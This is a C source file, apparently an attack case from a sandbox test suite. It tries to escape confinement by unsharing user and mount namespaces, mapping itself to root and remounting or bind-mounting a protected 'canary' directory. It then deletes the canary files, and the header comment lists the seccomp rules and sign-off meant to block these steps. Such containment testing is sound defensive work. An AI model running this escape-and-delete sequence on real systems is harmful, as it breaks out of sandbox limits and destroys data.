// attack: escape: unshare(CLONE_NEWUSER|CLONE_NEWNS), map root, remount the canary read-write (or bind a writable view of it) and destroy it
// stopped by: seccomp(unshare), seccomp(mount), seccomp(umount2), sign-off(delete)
#define _GNU_SOURCE
#include "attack.h"
#include <sched.h>
#include <sys/mount.h>

int main(void) {
    const char *canary = getenv("CANARY");
    if (!canary) { fprintf(stderr, "CANARY not set\n"); return 2; }
    char f[3][256], p[4096];
    if (canary_files(canary, f, 3) < 3) { fprintf(stderr, "fewer than 3 canary files\n"); return 2; }
    uid_t uid = getuid();
    gid_t gid = getgid();
    errno = 0;
    if (show("unshare(CLONE_NEWUSER|CLONE_NEWNS)", syscall(SYS_unshare, CLONE_NEWUSER | CLONE_NEWNS)) == 0) {
        char map[64];
        write_file("/proc/self/setgroups", "deny");
        snprintf(map, sizeof map, "0 %u 1", uid); write_file("/proc/self/uid_map", map);
        snprintf(map, sizeof map, "0 %u 1", gid); write_file("/proc/self/gid_map", map);
    } else {
        errno = 0;
        show("unshare(CLONE_NEWNS)", syscall(SYS_unshare, CLONE_NEWNS));
    }
    errno = 0; show("mount(MS_REC|MS_PRIVATE, /)", mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL));
    errno = 0; show("mount(canary, MS_REMOUNT|MS_BIND, rw)", mount(NULL, canary, NULL, MS_REMOUNT | MS_BIND, NULL));
    errno = 0; show("umount2(canary, MNT_DETACH)", umount2(canary, MNT_DETACH));
    mkdir("escape-view", 0755);
    errno = 0; show("mount(canary -> escape-view, MS_BIND|MS_REC)", mount(canary, "escape-view", NULL, MS_BIND | MS_REC, NULL));
    for (int i = 0; i < 3; i++) {
        snprintf(p, sizeof p, "%s/%s", canary, f[i]);
        char label[4400];
        snprintf(label, sizeof label, "unlink(%s)", p);
        errno = 0; show(label, unlink(p));
        snprintf(p, sizeof p, "escape-view/%s", f[i]);
        snprintf(label, sizeof label, "unlink(%s)", p);
        errno = 0; show(label, unlink(p));
    }
    return 0;
}
